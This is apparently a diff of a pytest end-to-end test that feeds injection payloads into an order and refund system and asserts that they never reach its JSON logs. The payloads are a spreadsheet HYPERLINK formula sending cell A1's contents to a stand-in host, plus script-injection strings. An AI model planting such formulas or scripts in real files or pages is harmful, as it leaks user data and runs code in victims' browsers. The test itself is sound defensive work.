@@ -15,7 +15,7 @@ from tests.e2e.world import World
 
 pytestmark = pytest.mark.stack
 
-PARENT = '=HYPERLINK("http://evil.example?"&A1,"<img src=x onerror=alert(1)>")'
+PARENT = '=HYPERLINK("http://formula.example?"&A1,"<img src=x onerror=alert(1)>")'
 SUBJECT = "+SUM(A1:A9)</td><script>alert(1)</script>"
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
 FUNCTIONS = ("import_orders", "refund_request", "find_orders", "send_message", "refund_report")
@@ -83,5 +83,5 @@ def test_no_name_reaches_a_log_and_each_line_is_one_object_of_ascii(
     for line in (line for lines in written.values() for line in lines if line.startswith("{")):
         assert isinstance(json.loads(line), dict)
         assert line.isascii()
-        assert "evil.example" not in line
-        assert "script" not in line
+        assert "formula.example" not in line
+        assert "SUM(A1" not in line
